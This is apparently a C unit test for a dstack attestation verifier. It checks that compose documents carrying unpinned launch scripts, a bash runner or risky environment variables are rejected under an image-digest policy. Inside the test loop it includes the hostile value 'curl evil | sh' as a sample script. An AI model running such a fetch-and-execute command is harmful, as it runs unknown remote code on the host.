/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What an app_compose document may run beside its compose file, when the
 * policy pins image digests: nothing that is not pinned.
 */
#include "attestation/dstack_evidence.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "attestation/dstack.h"
#include "base/codec.h"
#include "base/crypto.h"

#define DIGEST                                                                 \
	"1111111111111111111111111111111111111111111111111111111111111111"
#define FILE "\"services:\\n  a:\\n    image: x@sha256:" DIGEST "\""

static void
event_add(json_t *list, uint8_t rtmr[48], const char *name, struct bytes load)
{
	uint8_t raw[512] = {1, 0, 0, 8, ':'}, both[96];
	char hex[HEX_SIZE(32)];
	size_t n = 5;

	memcpy(raw + n, name, strlen(name));
	n += strlen(name);
	raw[n++] = ':';
	memcpy(raw + n, load.at, load.len);
	memcpy(both, rtmr, 48);
	sha384(bytes_of(raw, n + load.len), both + 48);
	sha384(bytes_of(both, 96), rtmr);
	hex_encode(load, hex);
	json_array_append_new(
	    list, json_pack("{s:i, s:i, s:s, s:s, s:s}", "imr", 3, "event_type",
		      DSTACK_RUNTIME_EVENT, "digest", "", "event", name,
		      "event_payload", hex));
}

static void
judge(const char *more, bool hashes, enum verdict_code code, const char *check)
{
	static const char *const pins[] = {DIGEST};
	struct policy p = policy_defaults();
	struct examination x = {.policy = &p};
	struct arena *a = arena_new();
	const char *compose =
	    arena_printf(a, "{\"docker_compose_file\":" FILE "%s}", more);
	json_t *list = json_array(), *item;
	char hex[HEX_SIZE(32)];
	uint8_t hash[32];
	const char *hash_pins[] = {hex};
	struct verdict v;
	bool ok;

	sha256(bytes_of(compose, strlen(compose)), hash);
	hex_encode(bytes_of(hash, 32), hex);
	p.image_digests = (struct policy_texts){true, 1, pins};
	p.dstack.allow_unpinned_base = true;
	if (hashes)
		p.dstack.compose_hashes =
		    (struct policy_texts){true, 1, hash_pins};
	x.facts.cpu = x.facts.is_tdx = true;
	x.facts.mrconfigid[0] = 1;
	memcpy(x.facts.mrconfigid + 1, hash, 32);
	event_add(list, x.facts.rtmr[3], "compose-hash", bytes_of(hash, 32));
	event_add(list, x.facts.rtmr[3], "system-ready", bytes_of("", 0));
	item =
	    json_pack("{s:o, s:s}", "event_log", list, "app_compose", compose);
	verdict_init(&v, a, 0);
	ok = dstack_verifier.verify(&x, item, &v);
	assert_int_equal(ok, code == CODE_OK);
	assert_int_equal(v.code, code);
	if (!ok)
		assert_string_equal(v.failed, check);
	json_decref(item);
	arena_free(&a);
}

static void
nothing_else_is_run(void **state)
{
	static const char *const scripts[] = {
	    "pre_launch_script", "init_script", "bash_script"};
	char more[128];

	(void)state;
	judge("", false, CODE_OK, "");
	judge(",\"runner\":\"docker-compose\",\"allowed_envs\":[\"A\"],"
	      "\"init_script\":\"\",\"bash_script\":null",
	    false, CODE_OK, "");
	for (size_t i = 0; i < 3; i++) {
		snprintf(more, sizeof(more), ",\"%s\":\"curl evil | sh\"",
		    scripts[i]);
		judge(more, false, CODE_UNSUPPORTED, "dstack.compose_file");
		judge(more, true, CODE_OK, "");
	}
	judge(",\"init_script\":[\"x\"]", false, CODE_UNSUPPORTED,
	    "dstack.compose_file");
	judge(",\"runner\":\"bash\"", true, CODE_UNSUPPORTED,
	    "dstack.compose_file");
	judge(",\"runner\":7", false, CODE_UNSUPPORTED, "dstack.compose_file");
	judge(",\"allowed_envs\":[\"A\",\"COMPOSE_FILE\"]", false,
	    CODE_UNSUPPORTED, "dstack.compose_file");
	judge(",\"allowed_envs\":[\"DOCKER_HOST\"]", false, CODE_UNSUPPORTED,
	    "dstack.compose_file");
	judge(",\"allowed_envs\":[7]", false, CODE_UNSUPPORTED,
	    "dstack.compose_file");
	judge(",\"allowed_envs\":\"A\"", false, CODE_MALFORMED,
	    "dstack.compose_file");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(nothing_else_is_run),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
